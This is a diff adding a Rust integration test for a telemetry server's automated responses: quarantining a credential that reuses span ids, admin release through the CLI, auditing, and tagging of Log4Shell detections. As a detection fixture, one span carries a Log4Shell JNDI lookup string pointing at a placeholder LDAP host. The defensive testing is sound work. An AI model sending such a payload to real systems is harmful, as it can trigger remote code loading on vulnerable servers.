@@ -432,3 +432,148 @@ async fn behavioural_findings_after_commit_and_learned_state_survives_restart() 
     let unknown = findings_of(&srv, "tv-integrity-unknown-service", 1).await;
     assert_eq!(unknown[0]["resources"][0]["name"], "intruder");
 }
+
+/// Automated responses: a credential that re-sends a span id with different content is
+/// quarantined (403 naming the response and how to release it), the admin lists and releases it
+/// with `tracevault response`, everything is audited; a tag rule marks the finding (and so the
+/// trace); and a rule that would quarantine on what spans report is refused at start.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn quarantine_follows_the_senders_behaviour_and_is_released_by_an_admin() {
+    let refused_dir = tempfile::tempdir().unwrap();
+    let bad = refused_dir.path().join("bad.toml");
+    std::fs::write(
+        &bad,
+        "version = 1\n[[detection.responses]]\naction = \"quarantine\"\nrules = [\"tv-sqli-syntax\"]\n",
+    )
+    .unwrap();
+    let err = serve_refused(&bad, &refused_dir.path().join("data"));
+    assert!(err.contains("switch off a victim's telemetry"), "{err}");
+
+    let tmp = tempfile::tempdir().unwrap();
+    let config = r#"version = 1
+[detection.behaviour]
+learning_secs = 2
+
+[[detection.responses]]
+action = "quarantine"
+rules = ["tv-integrity-span-reuse"]
+
+[[detection.responses]]
+action = "tag"
+rules = ["tv-log4shell-*"]
+tag = "suspicious"
+"#;
+    let (srv, _) = start_with_config(tmp, config, &[]);
+    let ingest = create_token(&srv, &["--role", "ingest", "--name", "exporter"]);
+    let c = srv.http_client();
+    let post = |token: String, req: ExportTraceServiceRequest| {
+        let c = c.clone();
+        let url = format!("{}/v1/traces", srv.http);
+        async move {
+            let r = c
+                .post(url)
+                .bearer_auth(token)
+                .header("content-type", "application/x-protobuf")
+                .body(req.encode_to_vec())
+                .send()
+                .await
+                .unwrap();
+            (r.status().as_u16(), r.text().await.unwrap())
+        }
+    };
+    let s = http_span(
+        random_id::<16>(),
+        random_id::<8>(),
+        "GET /",
+        now_nanos() - 1_000_000,
+        vec![],
+    );
+    assert_eq!(
+        post(ingest.clone(), batch("web", vec![s.clone()])).await.0,
+        200
+    );
+    let changed = Span {
+        name: "GET /other".into(),
+        ..s
+    };
+    assert_eq!(
+        post(ingest.clone(), batch("web", vec![changed])).await.0,
+        200
+    );
+    // The behavioural stage runs after the acknowledgement: wait for the quarantine.
+    let mut refused = None;
+    for _ in 0..100 {
+        let probe = http_span(
+            random_id::<16>(),
+            random_id::<8>(),
+            "GET /",
+            now_nanos(),
+            vec![],
+        );
+        let (st, body) = post(ingest.clone(), batch("web", vec![probe])).await;
+        if st == 403 {
+            refused = Some(body);
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+    }
+    let body = refused.expect("the credential was not quarantined");
+    assert!(body.contains("quarantined by automated response"), "{body}");
+    assert!(body.contains("tracevault response release"), "{body}");
+    // Another credential (the admin's) is not affected; its Log4Shell span is tagged.
+    let tagged = http_span(
+        random_id::<16>(),
+        random_id::<8>(),
+        "GET /",
+        now_nanos(),
+        vec![kv("user_agent.original", sv("${jndi:ldap://x.example/a}"))],
+    );
+    let r = srv
+        .post_otlp(
+            "application/x-protobuf",
+            batch("web", vec![tagged]).encode_to_vec(),
+        )
+        .await;
+    assert_eq!(r.status(), 200);
+    let f = findings_of(&srv, "tv-log4shell-lookup", 1).await;
+    assert_eq!(f[0]["metadata"]["labels"][0], "suspicious");
+
+    let (ok, out) = srv.cli(&["response", "list"]);
+    assert!(ok, "{out}");
+    assert!(
+        out.contains("quarantine") && out.contains("tv-integrity-span-reuse"),
+        "{out}"
+    );
+    let id = out.split_whitespace().next().unwrap().to_owned();
+    let (ok, out) = srv.cli(&["response", "release", &id]);
+    assert!(ok, "{out}");
+    let probe = http_span(
+        random_id::<16>(),
+        random_id::<8>(),
+        "GET /",
+        now_nanos(),
+        vec![],
+    );
+    assert_eq!(
+        post(ingest.clone(), batch("web", vec![probe])).await.0,
+        200,
+        "still quarantined after release"
+    );
+    let (ok, out) = srv.cli(&["response", "release", &id]);
+    assert!(!ok && out.contains("already released"), "{out}");
+
+    let (st, audit) = call(
+        &srv,
+        "GET",
+        "/api/audit?all_tenants=true",
+        &srv.token(),
+        "default",
+    )
+    .await;
+    assert_eq!(st, 200);
+    assert!(audit.contains("response_quarantine"), "{audit}");
+    assert!(
+        audit.contains(&format!("response:{id}")),
+        "release not audited: {audit}"
+    );
+}
